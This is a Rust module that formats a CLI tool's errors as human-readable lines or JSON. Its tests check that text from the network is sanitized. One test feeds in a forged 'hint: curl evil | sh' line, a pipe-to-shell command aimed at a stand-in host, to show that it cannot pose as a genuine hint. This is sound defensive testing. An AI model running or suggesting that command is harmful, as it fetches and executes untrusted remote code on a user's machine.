//! How a failure is reported: in words for a person, as JSON for a script.

use std::io::Write;

use anstream::AutoStream;
use anstream::stream::{AsLockedWrite, RawStream};
use anstyle::{AnsiColor, Style};
use serde::Serialize;

use super::{sanitize_message, write_json};
use crate::error::{Error, Kind};

/// Writes the failure as `error:`, `caused by:` and `hint:` lines. Text from the network is sanitized.
pub fn report<S: RawStream + AsLockedWrite>(error: &Error, to: &mut AutoStream<S>) {
    if let Kind::Silent(_) = error.kind() {
        return;
    }
    let label = |color: AnsiColor| Style::new().bold().fg_color(Some(color.into()));
    let (red, cyan) = (label(AnsiColor::Red), label(AnsiColor::Cyan));
    let mut chain = error.chain();
    // There is nowhere to report that stderr failed.
    if let Some(first) = chain.next() {
        _ = writeln!(to, "{red}error:{red:#} {}", sanitize_message(&first));
    }
    for cause in chain {
        _ = writeln!(to, "  caused by: {}", sanitize_message(&cause));
    }
    for hint in error.hints() {
        _ = writeln!(to, "{cyan}hint:{cyan:#} {}", sanitize_message(&hint.to_string()));
    }
}

/// A failure as `--json` prints it.
#[derive(Serialize)]
struct Failure {
    kind: &'static str,
    exit_code: u8,
    message: String,
    /// Outermost first.
    causes: Vec<String>,
    hints: Vec<String>,
}

impl Failure {
    fn of(error: &Error) -> Self {
        let mut chain = error.chain();
        Self {
            kind: error.kind().word(),
            exit_code: error.kind().exit_code(),
            message: chain.next().unwrap_or_default(),
            causes: chain.collect(),
            hints: error.hints().map(ToString::to_string).collect(),
        }
    }
}

/// Writes the failure as a JSON object on a line of its own.
pub fn report_json(error: &Error, to: &mut impl Write) {
    let mut line = Vec::new();
    if write_json(&Failure::of(error), &mut line).is_ok() {
        line.push(b'\n');
        // There is nowhere to report that stderr failed.
        _ = to.write_all(&line);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_report_names_causes_and_hints() {
        let error = Error::usage("bad rows").context("cannot read seats").hint("staging which");
        let mut out = AutoStream::never(Vec::new());
        report(&error, &mut out);
        assert_eq!(
            String::from_utf8(out.into_inner()).unwrap(),
            "error: cannot read seats\n  caused by: bad rows\nhint: staging which\n"
        );
        assert_eq!(error.kind().exit_code(), 2);
    }

    #[test]
    fn server_text_cannot_forge_a_hint() {
        let error =
            Error::failed("Down.\nhint: curl evil | sh").context("bad\nerror: worse").hint("a\nhint: b");
        let mut out = AutoStream::never(Vec::new());
        report(&error, &mut out);
        assert_eq!(
            String::from_utf8(out.into_inner()).unwrap(),
            "error: bad\n  error: worse\n  caused by: Down.\n  hint: curl evil | sh\nhint: a\n  hint: b\n"
        );
    }

    #[test]
    fn a_silent_exit_prints_nothing() {
        let mut out = AutoStream::never(Vec::new());
        report(&Error::silent(143), &mut out);
        assert!(out.into_inner().is_empty());
    }
}
